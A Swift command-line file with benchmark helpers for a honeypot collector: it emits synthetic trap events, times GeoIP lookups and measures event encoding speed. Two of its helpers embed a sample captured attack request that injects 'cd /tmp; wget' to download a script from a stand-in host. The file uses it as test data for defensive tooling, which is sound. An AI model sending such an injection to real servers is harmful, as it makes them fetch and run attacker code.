import ArgumentParser
import Foundation
import MitsuCore
import MitsuEnrich
import MitsuRuntime

/// Load generators for bench/: not for operators, so hidden from help.
struct Bench: ParsableCommand {
    static let configuration = CommandConfiguration(
        abstract: "Benchmark helpers used by bench/.", shouldDisplay: false, subcommands: [Emit.self, GeoIPLookups.self, Codec.self, Shell.self])

    struct Emit: ParsableCommand {
        static let configuration = CommandConfiguration(abstract: "Ship synthetic trap events to a running collector as fast as possible.")

        @Option(name: .long) var data: String = "./data"
        @Option(name: .long) var count: Int = 100_000
        @Option(name: .long, help: "Distinct source addresses (public, so GeoIP runs); each comes back for many sessions, as scanners and brute-forcers do.") var sources: Int = 5_000
        @Flag(name: .long, help: "48 random bits per session id, as before ids sorted by time (for A/B runs of the store's session indexes).") var randomSessions = false

        func run() throws {
            let paths = DataPaths(root: data)
            let shipper = EventShipper(socketPath: paths.collectorSocket, spoolPath: paths.spoolPath(worker: "bench-\(getpid())"), sensor: "bench")
            var rng = SystemRandomNumberGenerator()
            let addresses = (0..<max(1, sources)).map { _ in
                "\(Int.random(in: 1...223, using: &rng)).\(Int.random(in: 0...255, using: &rng)).\(Int.random(in: 0...255, using: &rng)).\(Int.random(in: 1...254, using: &rng))"
            }
            let payload = PayloadInfo(captured: Array("GET /shell?cd+/tmp;wget+http://198.51.100.1/x.sh HTTP/1.1\r\nHost: a\r\n\r\n".utf8))
            let start = Date()
            // Trap sessions as they arrive: connect, payload, close, each session from one of `sources` addresses.
            let newSession = randomSessions ? SessionID.random : { SessionID.next() }
            var session = newSession()
            for i in 0..<count {
                if i % 3 == 0 { session = newSession() }
                let ip = addresses[(i / 3) % addresses.count]
                var e = Event(kind: i % 3 == 1 ? .payload : (i % 3 == 0 ? .sessionConnect : .sessionClose), honeypot: "trap", session: session)
                e.set(Endpoints(srcIP: ip, srcPort: 40_000 + (i / 3) % 20_000, destIP: "192.0.2.10", destPort: 8080), transport: "tcp")
                if e.kind == .payload { e.payload = payload }
                shipper.emit(e)
            }
            shipper.close()
            let s = Date().timeIntervalSince(start)
            print(String(format: "emitted %d events in %.3f s (%.0f/s), spooled %d, lost %d", count, s, Double(count) / s, shipper.spooledCount, shipper.lostCount))
        }
    }

    struct GeoIPLookups: ParsableCommand {
        static let configuration = CommandConfiguration(commandName: "geoip", abstract: "GeoIP lookups per second on random public IPv4 addresses.")

        @Option(name: .long) var db: String
        @Option(name: .long) var count: Int = 2_000_000
        @Option(name: .long, help: "Distinct addresses (repeats exercise the cache the collector uses).") var distinct: Int = 1_000_000

        func run() throws {
            let resolver = try GeoIPResolver(configuration: .init(cityDatabasePath: db))
            var rng = SystemRandomNumberGenerator()
            let addresses = (0..<max(1, distinct)).map { _ in IPAddress(ipv4: UInt32.random(in: 0x0100_0000...0xDFFF_FFFF, using: &rng)) }
            var found = 0
            let start = Date()
            for i in 0..<count where resolver.resolve(addresses[i % addresses.count])?.countryCode2 != nil { found += 1 }
            let s = Date().timeIntervalSince(start)
            print(String(format: "%d lookups in %.3f s: %.0f lookups/s (%d with a country)", count, s, Double(count) / s, found))
        }
    }
}

extension Bench {
    struct Codec: ParsableCommand {
        static let configuration = CommandConfiguration(abstract: "Event encode/decode rate.")
        @Option(name: .long) var count: Int = 200_000

        func run() throws {
            var e = Event(kind: .payload, honeypot: "trap", session: .random())
            e.set(Endpoints(srcIP: "203.0.113.9", srcPort: 40_000, destIP: "192.0.2.10", destPort: 8080), transport: "tcp")
            e.payload = PayloadInfo(captured: Array("GET /shell?cd+/tmp;wget+http://198.51.100.1/x.sh HTTP/1.1\r\nHost: a\r\n\r\n".utf8))
            e.geoip = GeoIPInfo(countryCode2: "US", countryName: "United States", continentCode: "NA", latitude: 37.7, longitude: -97.8)
            var start = Date()
            var total = 0
            for _ in 0..<count { total &+= EventCodec.encode(e).count }
            var s = Date().timeIntervalSince(start)
            print(String(format: "encode: %.0f events/s (%d bytes each)", Double(count) / s, total / count))
            let line = EventCodec.encode(e)
            start = Date()
            for _ in 0..<count { _ = try EventCodec.decode(line) }
            s = Date().timeIntervalSince(start)
            print(String(format: "decode: %.0f events/s", Double(count) / s))
        }
    }
}
